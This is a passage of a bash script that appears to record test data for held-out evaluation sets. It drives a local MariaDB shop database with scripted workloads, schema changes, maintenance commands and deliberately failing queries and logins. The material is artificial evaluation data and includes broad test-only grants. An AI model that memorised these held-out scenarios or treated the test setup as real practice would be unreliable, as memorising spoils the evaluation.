    USE shop; CREATE TABLE coupons (code CHAR(10) PRIMARY KEY, percent TINYINT, used_by INT NULL, used_at DATETIME NULL);
    INSERT INTO coupons (code, percent) SELECT CONCAT('WINTER', LPAD(seq, 4, '0')), 5 + seq % 20 FROM seq_1_to_5000;"
  stop_pid "$pid" TERM
}
mariadb_heldout6_mix() {
  local r=$HELDOUT6_ROUND i n pids=() p44=$((MARIADB_RELAY_PORT + 44)) p88=$((MARIADB_RELAY_PORT + 88))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p88" --skip-ssl -B)
  n=$((HELDOUT6_CONC / 4 + 1))
  [ "$n" -le 8 ] || n=8
  for i in $(seq 1 "$n"); do mariadb_order_session -P "$p44" & pids+=($!); done
  mariadb_app -P "$p88" shop "START TRANSACTION;
    SELECT percent FROM coupons WHERE code = CONCAT('WINTER', LPAD($((1 + r * 13 % 5000)), 4, '0')) AND used_by IS NULL FOR UPDATE;
    UPDATE coupons SET used_by = $((1 + r % 2000)), used_at = NOW() WHERE code = CONCAT('WINTER', LPAD($((1 + r * 13 % 5000)), 4, '0'));
    COMMIT;
    SELECT id, name, price FROM products WHERE name LIKE 'product $((r % 50))%' ORDER BY price LIMIT 10" &
  pids+=($!)
  mariadb_wait "${pids[@]}"
  case $((r % 5)) in
    0) "${cli[@]}" -u app -pwrong-password shop -e "SELECT 1" ;;
    1) "${cli[@]}" -u app shop -e "SELECT * FROM gift_cards LIMIT 1" ;;
    2) printf "INSERT INTO reviews (product_id, customer_id, stars, body) VALUES (%s, %s, 4, '%s');\n" $((1 + r % 500)) \
         $((1 + r % 2000)) "$(head -c 1000000 /dev/zero | tr '\0' w)" | "${cli[@]}" -u app shop ;;
    3) "${cli[@]}" -u app shop -e "INSERT IGNORE INTO coupons (code, percent) SELECT CONCAT('R$((r % 100))X', LPAD(seq, 5, '0')), 10 FROM seq_1_to_5000" ;;
    4) "${cli[@]}" -u app shop -e "START TRANSACTION; UPDATE products SET price = price * 2 WHERE id < 50; ROLLBACK" ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout6_change() {
  mariadb_root -e "SET GLOBAL max_connections = 80; SET GLOBAL innodb_buffer_pool_size = 67108864; FLUSH STATUS"
  sleep 1
}
mariadb_heldout6_maint() {
  admin mariadb mysql mariadb-show --no-defaults -S "$MARIADB_SOCK" --status shop
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -B \
    -e "ANALYZE TABLE shop.coupons PERSISTENT FOR ALL; CHECKSUM TABLE shop.coupons"
  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" extended-status
}
mariadb_heldout6_late() {
  mariadb_app -P $((MARIADB_RELAY_PORT + 44)) shop "SELECT SLEEP(8)" &
  local long=$!
  until_ok mariadb_heldout6_kill_query
  wait "$long" 2>/dev/null || true
}
# mariadb_heldout6_kill_query: the DBA kills the application's long query (fails until it runs).
mariadb_heldout6_kill_query() {
  local id
  id=$(mariadb_root -N -B -e "SELECT id FROM information_schema.processlist WHERE info = 'SELECT SLEEP(8)'")
  [ -n "$id" ] && mariadb_root -e "KILL QUERY $id"
}

# Held out, seventh set (heldout7). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.5.0/24 let in (app@'127.0.5.%'), two
# relays (outside the cgroup) bound to 127.0.5.60 and .160, and a new table shop.wishlists
# (a JSON column, 4000 rows less the duplicates). Each round: shoppers' sessions through .60 (a quarter of the load, plus
# one, up to 6); through .160 a wishlist updated (INSERT ... ON DUPLICATE KEY UPDATE, a
# JSON_EXTRACT query, GROUP_CONCAT) and an item removed; one more thing in turn: a
# duplicate key, a syntax error, a statement stopped by max_statement_time, a 2 MB note, a
# client that gives up on a slow query after 0.3 s, a database that does not exist. The
# maintenance, early, by the operator inside the cgroup as mysql: `mariadb-admin
# processlist`, CHECK TABLE of wishlists and orders, PURGE BINARY LOGS of the older ones.
# The change, in the quiet period, by the DBA (root on the socket): a column added
# (ALGORITHM=INSTANT), an index on orders built online, the event scheduler switched on with
# an event that deletes expired sessions every 5 s. The late event: a backup tool's
# snapshot lock (FLUSH TABLES WITH READ LOCK for 2 s, then UNLOCK TABLES) while a round of
# shoppers waits for it.
mariadb_heldout7_deploy() {
  # The relays and the server, started once outside the recording, as provisioning does.
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.5 60 160
  mariadb_launch
  local pid=$LAUNCHED
  mariadb_root -e "CREATE USER app@'127.0.5.%'; GRANT ALL ON *.* TO app@'127.0.5.%'; USE shop;
    CREATE TABLE wishlists (customer_id INT, product_id INT, added DATETIME DEFAULT NOW(),
      prefs JSON, note MEDIUMTEXT, PRIMARY KEY (customer_id, product_id));
    INSERT IGNORE INTO wishlists (customer_id, product_id, prefs)
      SELECT 1 + seq % 2000, 1 + seq % 500, JSON_OBJECT('size', ELT(1 + seq % 3, 'S', 'M', 'L')) FROM seq_1_to_4000;"
  stop_pid "$pid" TERM
}
mariadb_heldout7_mix() {
  local r=$HELDOUT7_ROUND i n pids=() p60=$((MARIADB_RELAY_PORT + 60)) p160=$((MARIADB_RELAY_PORT + 160))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p160" --skip-ssl -B -u app)
  local c=$((1 + r * 17 % 2000))
  n=$((HELDOUT7_CONC / 4 + 1))
  [ "$n" -le 6 ] || n=6
  for i in $(seq 1 "$n"); do mariadb_order_session -P "$p60" & pids+=($!); done
  mariadb_app -P "$p160" shop "INSERT INTO wishlists (customer_id, product_id, prefs)
      VALUES ($c, $((1 + r % 500)), JSON_OBJECT('size', 'M', 'gift', $((r % 2))))
      ON DUPLICATE KEY UPDATE added = NOW();
    SELECT product_id, JSON_EXTRACT(prefs, '\$.size') FROM wishlists WHERE customer_id = $c;
    SELECT customer_id, GROUP_CONCAT(product_id ORDER BY added) FROM wishlists WHERE customer_id BETWEEN $c AND $c + 20 GROUP BY customer_id;
    DELETE FROM wishlists WHERE customer_id = $c AND product_id = $((1 + (r + 250) % 500))" &
  pids+=($!)
  mariadb_wait "${pids[@]}"
  case $((r % 6)) in
    0) "${cli[@]}" shop -e "INSERT INTO wishlists (customer_id, product_id) VALUES (1, 1), (1, 1)" ;;
    1) "${cli[@]}" shop -e "SELEC * FROM wishlists LIMIT 1" ;;
    2) "${cli[@]}" shop -e "SET STATEMENT max_statement_time = 0.1 FOR SELECT SLEEP(1)" ;;
    3) printf "UPDATE wishlists SET note = '%s' WHERE customer_id = %s;\n" "$(head -c 2000000 /dev/zero | tr '\0' n)" $((1 + r % 2000)) |
         "${cli[@]}" shop ;;
    4) timeout 0.3 "${cli[@]}" shop -e "SELECT SLEEP(2)" ;;
    5) "${cli[@]}" warehouse -e "SELECT 1" ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout7_maint() {
  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" processlist
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -B \
    -e "CHECK TABLE shop.wishlists, shop.orders; PURGE BINARY LOGS BEFORE NOW()"
}
mariadb_heldout7_change() {
  mariadb_root -e "ALTER TABLE shop.products ADD COLUMN weight_g INT NOT NULL DEFAULT 0, ALGORITHM=INSTANT;
    ALTER TABLE shop.orders ADD INDEX created_idx (created), ALGORITHM=INPLACE, LOCK=NONE;
    SET GLOBAL event_scheduler = ON;
    CREATE EVENT shop.purge_sessions ON SCHEDULE EVERY 5 SECOND DO DELETE FROM shop.sessions WHERE expires < NOW()"
}
mariadb_heldout7_late() {
  local pids=() i
  mariadb_root -e "FLUSH TABLES WITH READ LOCK; SELECT SLEEP(2); UNLOCK TABLES" >/dev/null &
  local lock=$!
  sleep 0.3
  for i in 1 2 3; do mariadb_order_session -P $((MARIADB_RELAY_PORT + 60)) & pids+=($!); done
  wait "$lock" || die "mariadb heldout7: the snapshot lock failed"
  mariadb_wait "${pids[@]}"
}

# Held out, eighth set (heldout8). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.6.0/24 let in (app@'127.0.6.%'), two
# relays (outside the cgroup) bound to 127.0.6.80 and .180, and a new table shop.returns
# (an ENUM reason, 5000 rows). Each round: shoppers' sessions through .80 (a sixth of the
# load, plus one, up to 5); through .180 the returns desk: a return recorded, its order
# locked (SELECT ... FOR UPDATE) and the refund set in a transaction, the reasons ranked by
# a window function; one more thing in turn: a login that fails (a user that does not
# exist), an ENUM value that does not exist, a column that does not exist, a value too long
# for its column (strict mode), a transaction rolled back, a join of returns and orders. The
# maintenance, by the operator inside the cgroup as mysql: a schema-only dump
# (`mariadb-dump --no-data --routines shop` into backup/), `mariadb-admin variables`, SHOW
# TABLE STATUS and SHOW GRANTS. The change, by the DBA (root on the socket): a column added
# with a table copy (ALGORITHM=COPY), a read-only reporting account, the general query log
# switched on (log/general.log).
# The late event: the returns table rotated (a new one created LIKE it, the open returns
# copied, RENAME TABLE of both at once), then a round.
mariadb_heldout8_deploy() {
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.6 80 180
  mariadb_launch
  local pid=$LAUNCHED
  mariadb_root -e "CREATE USER app@'127.0.6.%'; GRANT ALL ON *.* TO app@'127.0.6.%'; USE shop;
    CREATE TABLE returns (id INT AUTO_INCREMENT PRIMARY KEY, order_id INT NOT NULL,
      reason ENUM('damaged', 'late', 'wrong size', 'changed mind') NOT NULL, refunded DECIMAL(10,2) DEFAULT 0,
      code VARCHAR(16), created DATETIME DEFAULT NOW(), KEY (order_id));
    INSERT INTO returns (order_id, reason, refunded, code)
      SELECT 1 + seq * 3 % 20000, ELT(1 + seq % 4, 'damaged', 'late', 'wrong size', 'changed mind'), seq % 60,
        CONCAT('R', seq) FROM seq_1_to_5000;"
  stop_pid "$pid" TERM
}
mariadb_heldout8_mix() {
  local r=$HELDOUT8_ROUND i n pids=() p80=$((MARIADB_RELAY_PORT + 80)) p180=$((MARIADB_RELAY_PORT + 180))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p180" --skip-ssl -B)
  local o=$((1 + r * 31 % 20000))
  n=$((HELDOUT8_CONC / 6 + 1))
  [ "$n" -le 5 ] || n=5
  for i in $(seq 1 "$n"); do mariadb_order_session -P "$p80" & pids+=($!); done
  mariadb_app -P "$p180" shop "INSERT INTO returns (order_id, reason, code)
      VALUES ($o, ELT(1 + $r % 4, 'damaged', 'late', 'wrong size', 'changed mind'), 'W$r');
    START TRANSACTION; SELECT total FROM orders WHERE id = $o FOR UPDATE;
    UPDATE returns SET refunded = 9.5 WHERE code = 'W$r'; COMMIT;
    SELECT reason, COUNT(*) n, RANK() OVER (ORDER BY COUNT(*) DESC) FROM returns GROUP BY reason" &
  pids+=($!)
  mariadb_wait "${pids[@]}"
  case $((r % 6)) in
    0) "${cli[@]}" -u refunds -pnot-the-password shop -e "SELECT 1" ;;
    1) "${cli[@]}" -u app shop -e "INSERT INTO returns (order_id, reason) VALUES ($o, 'lost')" ;;
    2) "${cli[@]}" -u app shop -e "SELECT refund_total FROM returns LIMIT 1" ;;
    3) "${cli[@]}" -u app shop -e "INSERT INTO returns (order_id, reason, code) VALUES ($o, 'late', REPEAT('x', 40))" ;;
    4) "${cli[@]}" -u app shop -e "START TRANSACTION; UPDATE returns SET refunded = 0 WHERE id = $((1 + r)); ROLLBACK" ;;
    5) "${cli[@]}" -u app shop -e "SELECT r.reason, SUM(o.total) FROM returns r JOIN orders o ON o.id = r.order_id GROUP BY r.reason ORDER BY 2 DESC" ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout8_maint() {
  admin mariadb mysql mariadb-dump --no-defaults -S "$MARIADB_SOCK" --no-data --routines \
    --result-file="$MARIADB_DIR/backup/shop-schema.sql" shop
  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" variables
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -B -e "SHOW TABLE STATUS FROM shop; SHOW GRANTS FOR app@'127.0.6.%'"
}
mariadb_heldout8_change() {
  mariadb_root -e "ALTER TABLE shop.returns ADD COLUMN channel VARCHAR(12) NOT NULL DEFAULT 'web', ALGORITHM=COPY;
    CREATE USER report@'127.0.6.%'; GRANT SELECT ON shop.* TO report@'127.0.6.%';
    SET GLOBAL general_log_file = '$MARIADB_DIR/log/general.log', GLOBAL general_log = ON"
}
mariadb_heldout8_late() {
  mariadb_root -e "USE shop; CREATE TABLE returns_new LIKE returns;
    INSERT INTO returns_new SELECT * FROM returns WHERE refunded = 0;
    RENAME TABLE returns TO returns_2026, returns_new TO returns"
  HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1))
  mariadb_heldout8_mix
}

# Held out, ninth set (heldout9). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.7.0/24 let in (app@'127.0.7.%'), two
# relays (outside the cgroup) bound to 127.0.7.95 and .195, and a new table shop.loyalty
# (points per customer, 2000 rows, a JSON history). Each round: shoppers' sessions through
# .95 (a fifth of the load, plus one, up to 4); through .195 the loyalty desk: points added
# and their history appended (JSON_ARRAY_APPEND), the top ten read with an offset, tiers
# counted with a CTE; one more thing in turn: a login as app with a password it does not
# have, an error the application raises itself (SIGNAL in a compound statement), a 400 kB
# history, a prepared statement executed without its parameter, a temporary table too big
# for memory (on disk), LOCK TABLES and UNLOCK TABLES. The maintenance, by the operator
# inside the cgroup as mysql: SHOW ENGINE INNODB STATUS, `mariadb-admin ping version`, and a
# dump of the big accounts (`mariadb-dump --single-transaction --where`) into backup/. The
# change, by the DBA (root on the socket): a virtual generated column (the tier), a view of
# the top accounts, table_open_cache changed live. The late event: the DBA restarts the
# server for maintenance (`mariadb-admin shutdown` on the socket; the service manager
# starts it again), then a round.
mariadb_heldout9_deploy() {
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.7 95 195
  mariadb_launch
  local pid=$LAUNCHED
  mariadb_root -e "CREATE USER app@'127.0.7.%'; GRANT ALL ON *.* TO app@'127.0.7.%'; USE shop;
    CREATE TABLE loyalty (customer_id INT PRIMARY KEY, points INT NOT NULL DEFAULT 0,
      history LONGTEXT CHECK (JSON_VALID(history)), updated DATETIME DEFAULT NOW());
    INSERT INTO loyalty (customer_id, points, history)
      SELECT seq, seq * 7 % 5000, JSON_ARRAY(seq % 100) FROM seq_1_to_2000;" || die "mariadb heldout9: the deploy failed"
  stop_pid "$pid" TERM
}
mariadb_heldout9_mix() {
  local r=$HELDOUT9_ROUND i n pids=() p95=$((MARIADB_RELAY_PORT + 95)) p195=$((MARIADB_RELAY_PORT + 195))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p195" --skip-ssl -B)
  local c=$((1 + r * 43 % 2000))
  n=$((HELDOUT9_CONC / 5 + 1))
  [ "$n" -le 4 ] || n=4
  for i in $(seq 1 "$n"); do mariadb_order_session -P "$p95" & pids+=($!); done
  mariadb_app -P "$p195" shop "UPDATE loyalty SET points = points + $((10 + r % 40)),
      history = JSON_ARRAY_APPEND(history, '\$', $r) WHERE customer_id = $c;
    SELECT customer_id, points FROM loyalty ORDER BY points DESC LIMIT 10 OFFSET $((r % 5 * 10));
    WITH t AS (SELECT CASE WHEN points >= 4000 THEN 'gold' WHEN points >= 2000 THEN 'silver' ELSE 'basic' END tier
      FROM loyalty) SELECT tier, COUNT(*) FROM t GROUP BY tier" &
  pids+=($!)
  mariadb_wait "${pids[@]}"
  # One more thing in turn (the first one a login with a password app does not have).
  local more=("SELECT 1"
    "BEGIN NOT ATOMIC SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = 'not enough points'; END"
    "UPDATE loyalty SET history = JSON_ARRAY(REPEAT('h', 400000)) WHERE customer_id = $((1 + (c + 1) % 2000))"
    "PREPARE s FROM 'SELECT points FROM loyalty WHERE customer_id = ?'; EXECUTE s"
    "CREATE TEMPORARY TABLE desk AS SELECT l.customer_id, l.history, c.name FROM loyalty l JOIN customers c ON c.id = l.customer_id; SELECT COUNT(*) FROM desk"
    "LOCK TABLES loyalty READ; SELECT SUM(points) FROM loyalty; UNLOCK TABLES")
  local pw=()
  [ $((r % 6)) != 0 ] || pw=(-pnot-the-password)
  "${cli[@]}" -u app "${pw[@]}" shop -e "${more[r % 6]}" >/dev/null 2>&1 || true
}
mariadb_heldout9_maint() {
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -B -e "SHOW ENGINE INNODB STATUS"
  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" ping version
  admin mariadb mysql mariadb-dump --no-defaults -S "$MARIADB_SOCK" --single-transaction --where 'points > 4000' \
    --result-file "$MARIADB_DIR/backup/loyalty-top.sql" shop loyalty
}
mariadb_heldout9_change() {
  mariadb_root -e "ALTER TABLE shop.loyalty ADD COLUMN tier VARCHAR(8) AS
      (CASE WHEN points >= 4000 THEN 'gold' WHEN points >= 2000 THEN 'silver' ELSE 'basic' END) VIRTUAL;
    CREATE VIEW shop.loyalty_top AS SELECT customer_id, points, tier FROM shop.loyalty ORDER BY points DESC LIMIT 50;
    SET GLOBAL table_open_cache = 500" || die "mariadb heldout9: the change failed"
}
mariadb_heldout9_late() {
  mariadb-admin --no-defaults -S "$MARIADB_SOCK" -u root shutdown || die "mariadb heldout9: shutdown failed"
  wait "$MARIADB_PID" || true
  forget "$MARIADB_PID"
  mariadb_start
  HELDOUT9_ROUND=$((HELDOUT9_ROUND + 1))
  mariadb_heldout9_mix
}

# Held out, tenth set (heldout10). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.8.0/24 let in (app@'127.0.8.%'), two
# relays (outside the cgroup) bound to 127.0.8.75 and .175, and two new tables: shop.coupons
# (1000 codes with a discount, a use count and an expiry) and shop.redemptions. Each round:
# shoppers' sessions through .75 (a quarter of the load, plus one, up to 3); through .175
# the coupon desk: a code redeemed in a transaction (SELECT ... FOR UPDATE, the use counted,
# the redemption recorded, COMMIT) and the redemptions per hour; one more thing in turn: a
# coupon code inserted twice (a duplicate key), a syntax error, a redemption with a 2 MB
# note, a column that does not exist, a client that goes away mid-query (killed during
# SLEEP), a connection to a database that does not exist. The change, early, by the DBA
# (root on the socket): an index on the expiry built in place (ALGORITHM=INPLACE,
# LOCK=NONE) and max_connections raised live. The late event: the campaign's expired coupons
# purged in batches of 200 and the table analysed, then a round. The maintenance, by the
# operator inside the cgroup as mysql: `mariadb-admin status`, SHOW TABLE STATUS of shop,
# and the binary logs rotated and the old ones purged (FLUSH BINARY LOGS, PURGE BINARY LOGS
# BEFORE NOW()).
mariadb_heldout10_deploy() {
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.8 75 175
  mariadb_launch
  local pid=$LAUNCHED
  mariadb_root -e "CREATE USER app@'127.0.8.%'; GRANT ALL ON *.* TO app@'127.0.8.%'; USE shop;
    CREATE TABLE coupons (code VARCHAR(16) PRIMARY KEY, discount TINYINT NOT NULL, uses INT NOT NULL DEFAULT 0,
      expires DATETIME NOT NULL);
    INSERT INTO coupons SELECT CONCAT('SPRING', LPAD(seq, 4, '0')), 5 + seq % 30, 0,
      NOW() + INTERVAL CAST(seq % 20 AS SIGNED) - 5 DAY FROM seq_1_to_1000;
    CREATE TABLE redemptions (id INT AUTO_INCREMENT PRIMARY KEY, code VARCHAR(16) NOT NULL, customer_id INT,
      note MEDIUMTEXT, at DATETIME DEFAULT NOW(), KEY (code));" || die "mariadb heldout10: the deploy failed"
  stop_pid "$pid" TERM
}
mariadb_heldout10_mix() {
  local r=$HELDOUT10_ROUND i n pids=() p75=$((MARIADB_RELAY_PORT + 75)) p175=$((MARIADB_RELAY_PORT + 175))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p175" -u app --skip-ssl -B)
  local code c=$((1 + r * 47 % 2000))
  code=SPRING$(printf %04d $((1 + r * 29 % 1000)))
  n=$((HELDOUT10_CONC / 4 + 1))
  [ "$n" -le 3 ] || n=3
  for i in $(seq 1 "$n"); do mariadb_order_session -P "$p75" & pids+=($!); done
  mariadb_app -P "$p175" shop "START TRANSACTION;
    SELECT discount, uses FROM coupons WHERE code = '$code' AND expires > NOW() FOR UPDATE;
    UPDATE coupons SET uses = uses + 1 WHERE code = '$code';
    INSERT INTO redemptions (code, customer_id) VALUES ('$code', $c);
    COMMIT;
    SELECT HOUR(at), COUNT(*) FROM redemptions GROUP BY HOUR(at)" &
  pids+=($!)
  mariadb_wait "${pids[@]}"
  case $((r % 6)) in
    0) "${cli[@]}" shop -e "INSERT INTO coupons (code, discount, expires) VALUES ('$code', 10, NOW())" ;;
    1) "${cli[@]}" shop -e "SELEC code FROM coupons LIMIT 1" ;;
    2) "${cli[@]}" shop -e "INSERT INTO redemptions (code, customer_id, note) VALUES ('$code', $c, REPEAT('n', 2000000))" ;;
    3) "${cli[@]}" shop -e "SELECT code, discount_percent FROM coupons LIMIT 5" ;;
    4) timeout -s KILL 0.4 "${cli[@]}" shop -e "SELECT SLEEP(2)" ;;
    5) "${cli[@]}" shop_archive -e "SELECT 1" ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout10_change() {
  mariadb_root -e "ALTER TABLE shop.coupons ADD INDEX coupons_expires (expires), ALGORITHM=INPLACE, LOCK=NONE;
    SET GLOBAL max_connections = 60" || die "mariadb heldout10: the change failed"
}
mariadb_heldout10_maint() {
  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" status
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -B -e "SHOW TABLE STATUS FROM shop"
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -B -e "FLUSH BINARY LOGS; PURGE BINARY LOGS BEFORE NOW()"
}
mariadb_heldout10_late() {
  local i
  for i in 1 2 3; do
    mariadb_app shop "DELETE FROM coupons WHERE expires < NOW() LIMIT 200" ||
      die "mariadb heldout10: the purge failed"
  done
  mariadb_app shop "ANALYZE TABLE coupons"
  HELDOUT10_ROUND=$((HELDOUT10_ROUND + 1))
  mariadb_heldout10_mix
}

# Held out, eleventh set (heldout11). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.9.0/24 let in (app@'127.0.9.%'), two
# relays (outside the cgroup) bound to 127.0.9.85 and .185, and two new tables:
# shop.gift_cards (3000 cards with a balance that may not go below zero) and
# shop.card_txns. Each round: shoppers' sessions through .85 (a third of the load, plus
# one, up to 4); through .185 a gift card spent in a transaction (the balance lowered if it
# suffices, the spending recorded, the balance read back, COMMIT) and the day's spending per
# hour; once the change is in, the report account calls its procedure through .185; one
# more thing in turn: a spending that would take a balance below zero (the CHECK
# constraint refuses it), a table that does not exist, a 3 MB result (REPEAT), a login with
# a wrong password, a division by zero in an INSERT (strict mode refuses it), a write in a
# read-only transaction. The maintenance, early, by the operator inside the cgroup as
# mysql: the first binary log read back (`mariadb-binlog`), the shop's tables listed
# (`mariadb-show shop`), `mariadb-admin flush-status`. The change, in the middle, by the DBA
# (root on the socket): a stored procedure `shop.card_report(days)` and a `report@'127.0.9.%'`
# account with SELECT on shop and EXECUTE on the procedure. The late event: the error log
# renamed and reopened (FLUSH ERROR LOGS) and a cache warm-up: the InnoDB buffer pool's page
# list dumped and loaded back (innodb_buffer_pool_dump_now, innodb_buffer_pool_load_now).
MARIADB_HELDOUT11_REPORT=0
mariadb_heldout11_deploy() {
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.9 85 185
  mariadb_launch
  local pid=$LAUNCHED
  mariadb_root -e "CREATE USER app@'127.0.9.%'; GRANT ALL ON *.* TO app@'127.0.9.%'; USE shop;
    CREATE TABLE gift_cards (card CHAR(12) PRIMARY KEY, balance DECIMAL(8,2) NOT NULL CHECK (balance >= 0),
      issued DATE NOT NULL);
    INSERT INTO gift_cards SELECT CONCAT('GC', LPAD(seq, 10, '0')), 10 + seq % 140, CURDATE() - INTERVAL seq % 300 DAY
      FROM seq_1_to_3000;
    CREATE TABLE card_txns (id INT AUTO_INCREMENT PRIMARY KEY, card CHAR(12) NOT NULL, amount DECIMAL(8,2) NOT NULL,
      at DATETIME DEFAULT NOW(), KEY (card));" || die "mariadb heldout11: the deploy failed"
  stop_pid "$pid" TERM
}
mariadb_heldout11_mix() {
  local r=$HELDOUT11_ROUND i n pids=() p85=$((MARIADB_RELAY_PORT + 85)) p185=$((MARIADB_RELAY_PORT + 185))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p185" -u app --skip-ssl -B)
  local card
  card=GC$(printf %010d $((1 + r * 31 % 3000)))
  n=$((HELDOUT11_CONC / 3 + 1))
  [ "$n" -le 4 ] || n=4
  for i in $(seq 1 "$n"); do mariadb_order_session -P "$p85" & pids+=($!); done
  mariadb_app -P "$p185" shop "START TRANSACTION;
    UPDATE gift_cards SET balance = balance - 5 WHERE card = '$card' AND balance >= 5;
    INSERT INTO card_txns (card, amount) VALUES ('$card', 5);
    SELECT balance FROM gift_cards WHERE card = '$card';
    COMMIT;
    SELECT HOUR(at), SUM(amount) FROM card_txns WHERE at >= CURDATE() GROUP BY HOUR(at)" &
  pids+=($!)
  mariadb_wait "${pids[@]}"
  if [ "$MARIADB_HELDOUT11_REPORT" = 1 ]; then
    mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p185" -u report --skip-ssl -B shop -e "CALL card_report(7)" \
      >/dev/null 2>&1 || echo "record-testdata: mariadb: the report failed" >&2
  fi
  case $((r % 6)) in
    0) "${cli[@]}" shop -e "UPDATE gift_cards SET balance = balance - 1000 WHERE card = '$card'" ;;
    1) "${cli[@]}" shop -e "SELECT * FROM gift_card_txns LIMIT 1" ;;
    2) "${cli[@]}" shop -e "SELECT REPEAT('g', 3000000)" ;;
    3) "${cli[@]}" -p"wrong-$r" shop -e "SELECT 1" ;;
    4) "${cli[@]}" shop -e "INSERT INTO card_txns (card, amount) VALUES ('$card', 5 / 0)" ;;
    5) "${cli[@]}" shop -e "START TRANSACTION READ ONLY; UPDATE gift_cards SET balance = 0 WHERE card = '$card'; COMMIT" ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout11_maint() {
  local first
  first=$(find "$MARIADB_DIR/log" -name 'binlog.0*' | sort | head -n 1)
  [ -n "$first" ] || die "mariadb heldout11: no binary log"
  admin mariadb mysql mariadb-binlog --no-defaults "$first" --result-file="$MARIADB_DIR/tmp/binlog-first.sql"
  admin mariadb mysql mariadb-show --no-defaults -S "$MARIADB_SOCK" shop
  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" flush-status
}
mariadb_heldout11_change() {
  mariadb_root -e "CREATE PROCEDURE shop.card_report(IN days INT) READS SQL DATA
      SELECT DATE(at) AS day, COUNT(*) AS txns, SUM(amount) AS spent FROM shop.card_txns
      WHERE at >= CURDATE() - INTERVAL days DAY GROUP BY DATE(at);
    CREATE USER report@'127.0.9.%';
    GRANT SELECT ON shop.* TO report@'127.0.9.%';
    GRANT EXECUTE ON PROCEDURE shop.card_report TO report@'127.0.9.%'" || die "mariadb heldout11: the change failed"
  MARIADB_HELDOUT11_REPORT=1
}
mariadb_heldout11_late() {
  mv "$MARIADB_DIR/log/error.log" "$MARIADB_DIR/log/error.log.1"
  mariadb_root -e "FLUSH ERROR LOGS" || die "mariadb heldout11: flush error logs failed"
  mariadb_root -e "SET GLOBAL innodb_buffer_pool_dump_now = ON" || die "mariadb heldout11: the dump failed"
  until_ok mariadb_heldout11_status innodb_buffer_pool_dump_status 'dump completed'
  mariadb_root -e "SET GLOBAL innodb_buffer_pool_load_now = ON" || die "mariadb heldout11: the load failed"
  until_ok mariadb_heldout11_status innodb_buffer_pool_load_status 'load completed'
}
# mariadb_heldout11_status VARIABLE TEXT: the global status VARIABLE mentions TEXT.
mariadb_heldout11_status() {
  mariadb_root -N -B -e "SHOW GLOBAL STATUS LIKE '$1'" | grep -qi "$2"
}

# mariadb_heldout_seed PHASE NET ADDR...: PHASE's deploy, before the start: application
# servers on NET.% let in (app@'NET.%'), relays bound to NET.ADDR (outside the cgroup), and
# the SQL on stdin run by root on a server started once for it (outside the recording).
mariadb_heldout_seed() {
  local phase=$1 net=$2 pid
  shift
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" "$@"
  mariadb_launch
  pid=$LAUNCHED
  { echo "CREATE USER app@'$net.%'; GRANT ALL ON *.* TO app@'$net.%';"; cat; } | mariadb_root ||
    die "mariadb $phase: the deploy failed"
  stop_pid "$pid" TERM
}

# mariadb_round_clients N MAX SHOP_PORT DESK_PORT SQL: N shoppers' sessions at once (MAX at
# the most) through the relay on SHOP_PORT and, beside them, one application session
# running SQL in shop through DESK_PORT; waits for them.
mariadb_round_clients() {
  local n=$1 i pids=()
  [ "$n" -le "$2" ] || n=$2
  for i in $(seq 1 "$n"); do mariadb_order_session -P "$3" & pids+=($!); done
  mariadb_app -P "$4" shop "$5" &
  pids+=($!)
  mariadb_wait "${pids[@]}"
}
# mariadb_via ADDR ARG...: the application's client in shop through the relay for ADDR
# (start_relays), with ARG.
mariadb_via() {
  mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P $((MARIADB_RELAY_PORT + $1)) -u app --skip-ssl -B shop "${@:2}"
}

# Held out, twelfth set (heldout12). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.10.0/24 let in (app@'127.0.10.%'),
# two relays (outside the cgroup) bound to 127.0.10.95 and .195, and two new tables:
# shop.wishlists (8000 wishes, a customer and a product each) and shop.price_history (5000
# prices). Each round: shoppers' sessions through .95 (a fifth of the load, plus one, up to
# 3); through .195 a wish saved (INSERT ... ON DUPLICATE KEY UPDATE), the most wished
# products, a price recorded and the product's price changes (LAG over a window), and, once
# the change is in, a note on the customer's wishes; one more thing in turn: a price too big
